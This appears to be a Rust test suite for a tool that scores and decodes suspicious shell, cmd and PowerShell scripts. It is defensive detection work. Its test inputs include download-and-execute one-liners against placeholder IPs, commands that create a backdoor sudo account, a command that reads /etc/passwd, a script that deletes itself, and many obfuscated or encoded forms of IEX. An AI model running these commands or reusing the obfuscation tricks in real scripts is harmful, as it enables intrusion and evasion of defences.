use super::*;
use crate::severity::Severity;
use decode::Transform;

fn run(text: &str) -> Examined {
    examine(text, &ScriptHint::default(), &ScriptSettings::default())
}

fn texts(found: &Examined) -> Vec<(Option<Transform>, String, bool)> {
    found
        .layers
        .iter()
        .map(|layer| {
            (
                layer.transform,
                layer.text.clone().unwrap_or_else(|| "binary".to_owned()),
                layer.executed,
            )
        })
        .collect()
}

fn has_layer(found: &Examined, transform: Transform, text: &str, executed: bool) -> bool {
    texts(found).contains(&(Some(transform), text.to_owned(), executed))
}

#[test]
fn examples_of_scoring() {
    let found = run("curl -fsSL http://203.0.113.7/i.sh | sudo bash");
    assert_eq!(found.score.groups.get("DL"), Some(&9));
    assert_eq!(
        (found.score.total, found.score.severity),
        (9, Some(Severity::Medium))
    );
    let found = run("useradd -m svc; usermod -aG sudo svc; echo 'svc:x' | chpasswd");
    assert_eq!(found.score.groups.get("ACCT"), Some(&8));
    assert_eq!(found.score.severity, Some(Severity::Medium));
    assert_eq!(
        run("apt-get update && apt-get install -y nginx")
            .score
            .severity,
        None
    );
    let found = run("rm -f -- \"$0\"");
    assert_eq!(
        (found.score.total, found.score.severity),
        (9, Some(Severity::High))
    );
}

#[test]
fn a_comment_counts_nothing_and_is_shown() {
    let found = run("# curl -fsSL http://203.0.113.7/i.sh | sudo bash\n");
    assert_eq!(found.score.severity, None);
    assert!(!found.matches.is_empty() && found.matches.iter().all(|hit| hit.in_comment));
}

#[test]
fn a_match_knows_its_line_across_joined_ones() {
    let text = "id\ncurl -fsSL \\\n http://203.0.113.7/i.sh | \\\n sudo bash\n";
    let found = run(text);
    let hit = found
        .matches
        .iter()
        .find(|hit| hit.indicator.id == "dl-sh-pipe" && hit.layer == 0)
        .unwrap();
    assert_eq!(hit.line, 2);
    assert!(text[hit.range.clone()].starts_with("curl"));
}

#[test]
fn vector_1_encoded_command() {
    let found = run("powershell -NoP -enc SQBFAFgAIAAoAHcAaABvAGEAbQBpACkA");
    assert!(has_layer(
        &found,
        Transform::PsEncodedCommand,
        "IEX (whoami)",
        true
    ));
    assert_eq!(found.codes, [Code::EncodedExecution]);
}

#[test]
fn vector_2_base64_executed_and_data() {
    let found = run("echo aWQK | base64 -d | bash");
    assert!(has_layer(&found, Transform::ShBase64, "id\n", true));
    let found = run("echo aWQK | base64 -d > f");
    assert!(has_layer(&found, Transform::ShBase64, "id\n", false));
    assert!(found.codes.is_empty());
}

#[test]
fn vector_3_hex() {
    let found = run("echo 6375726c20687474703a2f2f3139322e302e322e312f697c7368 | xxd -r -p | sh");
    assert!(has_layer(
        &found,
        Transform::Hex,
        "curl http://192.0.2.1/i|sh",
        true
    ));
    assert!(
        found
            .matches
            .iter()
            .any(|hit| hit.indicator.id == "dl-sh-pipe" && hit.layer > 0)
    );
}

#[test]
fn vector_4_gzip_inside_base64() {
    let found =
        run("[Convert]::FromBase64String('H4sIAAAAAAACAyvPyE/MzbRWyMgvLslLzE3lAgBS+UbGEQAAAA==')");
    let packed = found
        .layers
        .iter()
        .find(|layer| layer.transform == Some(Transform::FromBase64String))
        .unwrap();
    assert_eq!((packed.bytes().len(), packed.text.is_none()), (37, true));
    let inner = found
        .layers
        .iter()
        .find(|layer| layer.transform == Some(Transform::Inflate))
        .unwrap();
    assert_eq!(
        (inner.text.as_deref(), inner.depth),
        (Some("whoami; hostname\n"), 2)
    );
}

#[test]
fn vector_5_encoding_in_encoding() {
    let found = run(
        "echo cG93ZXJzaGVsbCAtZW5jIFNRQkZBRmdBSUFBb0FIY0FhQUJ2QUdFQWJRQnBBQ2tB | base64 -d | sh",
    );
    assert!(has_layer(
        &found,
        Transform::ShBase64,
        "powershell -enc SQBFAFgAIAAoAHcAaABvAGEAbQBpACkA",
        true
    ));
    assert!(has_layer(
        &found,
        Transform::PsEncodedCommand,
        "IEX (whoami)",
        true
    ));
    assert!(found.codes.contains(&Code::NestedEncoding));
}

#[test]
fn vector_6_powershell_folds() {
    for (text, want) in [
        ("('I'+'E'+'X')", "('IEX')"),
        ("i`e`x", "iex"),
        ("\"{1}{0}\" -f 'EX','I'", "\"IEX\""),
        ("[char]73+[char]69+[char]88", "\"IEX\""),
        ("-join('I','EX')", "\"IEX\""),
        ("'IAX'.Replace('A','E')", "\"IEX\""),
        ("[char[]](73,69,88) -join ''", "\"IEX\""),
        ("'xei'[-1..-3] -join ''", "\"iex\""),
    ] {
        assert_eq!(decode::fold::powershell(text), want, "{text}");
    }
    assert_eq!(
        decode::fold::powershell("$a = 'whoami'\n& $a"),
        "$a = 'whoami'\n& 'whoami'"
    );
    assert_eq!(decode::fold::powershell("\"a`tb\""), "\"a`tb\"");
}

#[test]
fn vector_7_shell_and_cmd_folds() {
    assert_eq!(decode::fold::shell("c''url"), "curl");
    assert_eq!(decode::fold::shell("c\"u\"rl"), "curl");
    assert_eq!(
        decode::fold::shell("cat${IFS}/etc/passwd"),
        "cat /etc/passwd"
    );
    assert_eq!(
        decode::fold::shell("a=curl\n$a http://x"),
        "a=curl\ncurl http://x"
    );
    assert_eq!(decode::fold::shell("\\curl x"), "curl x");
    assert_eq!(decode::fold::shell("$'\\x63url' x"), "curl x");
    assert_eq!(decode::fold::cmd("p^o^w^ershell"), "powershell");
    assert_eq!(
        decode::fold::cmd("set x=abcpowershell\n%x:~3,10% -c y"),
        "set x=abcpowershell\npowershell -c y"
    );
    let found = run("p^o^w^ershell");
    assert!(has_layer(&found, Transform::CmdFold, "powershell", true));
}

#[test]
fn vector_8_no_powershell_no_encoded_command() {
    let found = run("grep -e AAAAAAAAAAAAAAAAAAAAAAAA f");
    assert!(
        found
            .layers
            .iter()
            .all(|layer| layer.transform != Some(Transform::PsEncodedCommand))
    );
}

#[test]
fn a_certificate_is_no_layer_and_a_program_is_named() {
    let body = "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAabcdefghij";
    let found = run(&format!(
        "cat > k <<E\n-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\nE\n"
    ));
    assert!(
        found
            .layers
            .iter()
            .all(|layer| layer.transform != Some(Transform::BareBase64))
    );
    let found =
        run("echo TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA | base64 -d > x.exe");
    assert!(found.codes.contains(&Code::EmbeddedExecutable));
}

#[test]
fn limits_are_named_and_hold() {
    let settings = ScriptSettings {
        limits: DecodeLimits {
            depth: 1,
            ..DecodeLimits::default()
        },
        ..ScriptSettings::default()
    };
    let text =
        "echo cG93ZXJzaGVsbCAtZW5jIFNRQkZBRmdBSUFBb0FIY0FhQUJ2QUdFQWJRQnBBQ2tB | base64 -d | sh";
    let found = examine(text, &ScriptHint::default(), &settings);
    assert!(found.codes.contains(&Code::DecodeLimit { depth: true }));
    assert!(found.layers.iter().all(|layer| layer.depth <= 1));
}

#[test]
fn any_text_ends_and_gives_the_same_again() {
    let mut seed = 11_u64;
    let words = [
        "base64 -d",
        "| sh",
        "'",
        "\"",
        "$(",
        "powershell -enc ",
        "SQBFAFgA",
        "\\x41\\x42\\x43\\x44",
        "[char]65+",
        "%41%42%43%44",
        "`",
        "^",
        "\n",
        "<<E\n",
        "é",
        "FromBase64String(",
        "{0}",
        "-f ",
        "set a=b\n",
        "%a:~0,1%",
    ];
    for _ in 0..300 {
        let mut text = String::new();
        for _ in 0..40 {
            seed = seed
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            text.push_str(words[(seed >> 33) as usize % words.len()]);
        }
        let (one, other) = (run(&text), run(&text));
        assert_eq!(texts(&one), texts(&other));
        assert!(one.layers.len() <= 256);
    }
}

#[test]
fn what_is_kept_of_lines_changes_nothing() {
    let texts = [
        "curl http://203.0.113.7/i.sh | bash\n# curl http://203.0.113.7/i.sh | bash\nid",
        "#!/bin/sh\nid; curl http://203.0.113.7/i.sh | bash",
        "id\ncurl \\\n http://203.0.113.7/i.sh | bash\r\n  id\nREM whoami",
        "REM whoami\r\nwhoami ^\r\n /all\r\niex (iwr http://203.0.113.7/a)`\n; whoami",
    ];
    let (settings, catalogue) = (ScriptSettings::default(), Catalogue::default());
    let mut before = Examinations::default();
    let shown = |found: &Examined| -> Vec<String> {
        let hits = found.matches.iter();
        let hits = hits.map(|hit| {
            let (id, range) = (&hit.indicator.id, &hit.range);
            format!("{id} {} {range:?} {} {}", hit.layer, hit.line, hit.weight())
        });
        hits.collect()
    };
    let mut hits = 0;
    for text in texts.iter().chain(&texts) {
        for windows in [None, Some(true), Some(false)] {
            let hint = ScriptHint {
                windows,
                file_name: None,
            };
            let alone = shown(&examine(text, &hint, &settings));
            hits += alone.len();
            let kept = catalogue.examine(text, &hint, &settings, &mut before);
            assert_eq!(shown(&kept), alone, "{text}");
        }
    }
    assert!(hits > 40, "{hits}");
}
